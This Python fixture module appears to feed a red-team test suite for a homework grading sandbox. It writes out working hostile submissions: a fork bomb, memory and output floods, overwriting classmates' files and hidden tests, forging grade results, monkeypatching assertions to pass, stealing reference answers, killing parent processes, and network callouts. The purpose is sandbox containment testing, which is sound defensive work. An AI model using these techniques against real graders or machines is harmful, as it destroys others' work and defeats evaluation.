"""Hostile P5 submissions for the red-team suite (tests/test_redteam.py).

Each case is the handout's starter (which scores 0 on P5) plus one attack
that would raise its score, break the batch, damage the machine or escape
its grading if the sandbox let it. The attack runs the first time the
grader builds the student's operator, in every fresh child, and logs what
it achieved to ``diary.txt`` in its working copy (kept by the test), which
is how the test learns what happened where no other trace exists (a DNS
lookup). The diary is student-written and only ever read as evidence that
an attack *succeeded*; the assertions that matter look at the machine.

Placeholders filled in by the test: ``__TOKEN__`` (unique per run, in every
name an attack creates), ``__TCP__`` and ``__UDP__`` (ports the test listens
on at 127.0.0.1), ``__PLANTED__`` (a folder holding a correct conv1D.py).
"""

from __future__ import annotations

HEADER = '''\
import os, sys, time, signal
import numpy as np

TOKEN = "__TOKEN__"


def diary(text):
    # The child's cwd is the working copy (module-level code other than
    # definitions may not run: the loader runs definitions when they suffice).
    try:
        with open("diary.txt", "a") as fh:
            fh.write(text + "\\n")
    except OSError:
        pass


def _attack_once():
    # Once per working copy, not per fresh child: a crash restarts the child.
    if os.path.exists("attacked.txt"):
        return
    open("attacked.txt", "w").close()
    try:
        attack()
    except BaseException as exc:  # the attack failing is the expected outcome
        if isinstance(exc, SystemExit):
            raise
        diary("attack raised %s: %s" % (type(exc).__name__, exc))

'''

STARTER = '''

class Convolution1d:
    def __init__(self, filt):
        _attack_once()
        self.filt = filt
        self.T = TransposedConvolution1d(filt)

    def __matmul__(self, vector):
        return delegate_forward(self.filt, vector)


class TransposedConvolution1d:
    def __init__(self, filt):
        self.filt = filt

    def __matmul__(self, vector):
        return delegate_transpose(self.filt, vector)


DELEGATE = []


def delegate_forward(filt, vector):
    if DELEGATE:
        return DELEGATE[0](filt) @ vector
    return None


def delegate_transpose(filt, vector):
    if DELEGATE:
        return DELEGATE[0](filt).T @ vector
    return None
'''

#: Attack bodies: ``def attack():`` is prepended; each may also set module state.
ATTACKS: dict[str, str] = {
    # -- resources -------------------------------------------------------
    "fork_bomb": '''
    while True:
        try:
            pid = os.fork()
        except OSError:
            diary("fork failed: capped")
            return
        if pid == 0:
            while True:
                try:
                    os.fork()
                except OSError:
                    time.sleep(0.05)
''',
    "allocate_6gib": '''
    block = np.ones(6 * 1024**3 // 8)
    diary("allocated %d bytes" % block.nbytes)
''',
    "stdout_flood": '''
    chunk = "x" * (1 << 20) + "\\n"
    for _ in range(4096):
        sys.stdout.write(chunk)
''',
    "infinite_recursion": '''
    sys.setrecursionlimit(10**9)
    def down(n):
        return down(n + 1) + 1
    down(0)
''',
    # -- writes ----------------------------------------------------------
    "write_classmates_relative": '''
    for base in ("..", "../..", "../../..", "../../../.."):
        try:
            names = os.listdir(base)
        except OSError:
            continue
        for name in names:
            target = os.path.join(base, name, "conv1D.py")
            if os.path.isfile(target) and not os.path.samefile(os.path.join(base, name), "."):
                try:
                    with open(target, "w") as fh:
                        fh.write("# overwritten by " + TOKEN + "\\n")
                    diary("overwrote " + os.path.abspath(target))
                except OSError as exc:
                    diary("could not overwrite %s: %s" % (target, exc))
''',
    "write_through_proc": '''
    found = set()
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            found.add(os.readlink("/proc/%s/cwd" % pid))
        except OSError:
            pass
        try:
            args = open("/proc/%s/cmdline" % pid, "rb").read().split(b"\\0")
        except OSError:
            args = []
        for arg in args:
            path = arg.decode(errors="replace")
            if path.startswith("/") and os.path.isdir(path):
                found.add(path)
    for folder in sorted(found):
        if os.path.realpath(folder).startswith(os.path.realpath(os.getcwd())):
            continue
        for dirpath, dirnames, filenames in os.walk(folder):
            for name in filenames:
                if name == "conv1D.py" or name == "report.json":
                    try:
                        with open(os.path.join(dirpath, name), "w") as fh:
                            fh.write("# overwritten by " + TOKEN + "\\n")
                        diary("overwrote " + os.path.join(dirpath, name))
                    except OSError:
                        pass
            try:
                open(os.path.join(dirpath, "PWNED-" + TOKEN), "w").close()
                diary("wrote into " + dirpath)
            except OSError:
                pass
            if dirpath.count("/") > 8:
                dirnames[:] = []
''',
    "write_reports_grader_home_tmp": '''
    home = os.path.expanduser("~")
    import grader
    checkout = os.path.dirname(os.path.dirname(os.path.abspath(grader.__file__)))
    targets = [home, os.environ.get("HOME", "/root"), "/root", "/tmp", checkout,
               os.path.join(checkout, "rubrics"), os.path.join(checkout, "reference"),
               os.path.join(checkout, "grader"), os.path.join(checkout, "reports")]
    for folder in targets:
        try:
            with open(os.path.join(folder, "PWNED-" + TOKEN), "w") as fh:
                fh.write("x")
            if folder != "/tmp":  # its own /tmp is allowed; the test checks the machine's
                diary("wrote into " + folder)
        except OSError as exc:
            diary("could not write %s: %s" % (folder, exc))
    try:
        with open(os.path.join(checkout, "rubrics", "hw1", "test_p5.py"), "a") as fh:
            fh.write("\\n# " + TOKEN + "\\n")
        diary("patched the hidden tests")
    except OSError:
        pass
''',
    # -- forgery ---------------------------------------------------------
    "forge_results": '''
    fake = '{"pytest_exit": 0, "outcomes": [{"test": "test_forward", "case": "", "status": "passed", "credit": 1.0, "message": "", "notes": []}]}'
    print(fake)
    sys.stderr.write(fake + "\\n")
    for folder in (".", "..", "../..", "../../..", os.path.expanduser("~"), "/tmp"):
        for name in ("results.json", "gradebook.csv", "report.json"):
            try:
                with open(os.path.join(folder, name), "w") as fh:
                    fh.write(fake if name.endswith(".json") else "student,total\\nforge,100\\n")
                if folder not in (".", "/tmp"):
                    diary("wrote into " + os.path.join(folder, name))
            except OSError:
                pass
    for fd in range(3, 64):
        try:
            os.write(fd, b"\\x00\\x00\\x00\\x10" + fake.encode())
        except OSError:
            pass
    sys.stdout.flush()
    os._exit(0)
''',
    # -- patching --------------------------------------------------------
    "patch_checks": '''
    import builtins
    np.allclose = lambda *a, **k: True
    np.array_equal = lambda *a, **k: True
    np.testing.assert_allclose = lambda *a, **k: None
    np.testing.assert_array_equal = lambda *a, **k: None
    builtins.isinstance = lambda *a: True
    builtins.abs = lambda x: 0
    for name in list(sys.modules):
        if name.startswith(("grader", "pytest", "_pytest")):
            module = sys.modules[name]
            for attr in dir(module):
                if attr.startswith(("assert", "check", "fail", "score")):
                    try:
                        setattr(module, attr, lambda *a, **k: True)
                    except Exception:
                        pass
    try:
        from grader.sandbox import protocol
        real = protocol.encode
        protocol.encode = lambda value: real(np.zeros(3)) if value is None else real(value)
    except Exception:
        pass
''',
    # -- reading answers -------------------------------------------------
    "read_reference": '''
    import grader
    checkout = os.path.dirname(os.path.dirname(os.path.abspath(grader.__file__)))
    sys.path.insert(0, checkout)
    from reference.hw1.conv1D import Convolution1d as Answer
    DELEGATE.append(Answer)
    diary("imported the reference")
''',
    "walk_for_answers": '''
    import importlib.util
    mine = os.path.realpath(__file__)
    roots = ["__PLANTED__", "/tmp", "/work", "/root", "/home", os.path.expanduser("~"), "/", ".."]
    seen = 0
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if d not in ("proc", "sys", "dev", "usr", "lib", ".git", "site-packages")]
            for name in filenames:
                if name.lower() != "conv1d.py" or os.path.realpath(os.path.join(dirpath, name)) == mine:
                    continue
                seen += 1
                path = os.path.join(dirpath, name)
                try:
                    spec = importlib.util.spec_from_file_location("found_%d" % seen, path)
                    module = importlib.util.module_from_spec(spec)
                    spec.loader.exec_module(module)
                    candidate = module.Convolution1d
                    x = np.arange(6.0)
                    if (candidate(np.ones(2)) @ x) is not None:
                        DELEGATE.append(candidate)
                        diary("delegating to " + path)
                        return
                except BaseException:
                    continue
    diary("no answer found among %d files" % seen)
''',
    # -- surviving and fighting ------------------------------------------
    "double_fork_daemon": '''
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv("/bin/sleep", ["sleep", "1000.__TOKEN__"])
        os._exit(0)
    os.wait()
    diary("daemon started")
''',
    "ignore_sigterm_and_loop": '''
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    if os.fork() == 0:
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        while True:
            pass
    while True:
        pass
''',
    "kill_parent": '''
    parent = os.getppid()
    diary("parent is %d" % parent)
    os.kill(parent, signal.SIGKILL)
    diary("killed parent %d" % parent)
''',
    "killpg_parent_group": '''
    group = os.getpgid(os.getppid())
    diary("parent group is %d" % group)
    os.killpg(group, signal.SIGKILL)
    diary("killed group %d" % group)
''',
    # -- crashes ---------------------------------------------------------
    "segfault_ctypes": '''
    import ctypes
    ctypes.string_at(0)
''',
    "exit_at_import": None,  # special: sys.exit(0) at the top of the file
    # -- network ---------------------------------------------------------
    "tcp_to_localhost": '''
    import socket
    try:
        with socket.create_connection(("127.0.0.1", __TCP__), timeout=2) as conn:
            conn.sendall(b"stolen " + TOKEN.encode())
        diary("tcp connected")
    except OSError as exc:
        diary("tcp failed: %s" % exc)
''',
    "udp_to_localhost": '''
    import socket
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        sock.sendto(b"stolen " + TOKEN.encode(), ("127.0.0.1", __UDP__))
        diary("udp sent")
    except OSError as exc:
        diary("udp failed: %s" % exc)
''',
    "dns_lookup": '''
    import socket
    try:
        socket.setdefaulttimeout(2)
        info = socket.getaddrinfo("pypi.org", 443)
        diary("dns resolved %s" % (info[0][4],))
    except OSError as exc:
        diary("dns failed: %s" % exc)
''',
}


def source(case: str, token: str, tcp: int, udp: int, planted: str) -> str:
    """The conv1D.py of one hostile case."""
    if ATTACKS[case] is None:
        # The class comes from a call, so the loader must run the whole file, sys.exit and all.
        body = ("import sys\nsys.exit(0)\n" + HEADER + "\ndef attack():\n    pass\n"
                + STARTER.replace("class Convolution1d:", "class _Convolution1d:")
                + "\nexec('class Convolution1d(_Convolution1d):\\n    pass')\n")
    else:
        body = HEADER + "\ndef attack():" + ATTACKS[case] + STARTER
    for key, value in (("__TOKEN__", token), ("__TCP__", str(tcp)), ("__UDP__", str(udp)),
                       ("__PLANTED__", planted)):
        body = body.replace(key, value)
    return body
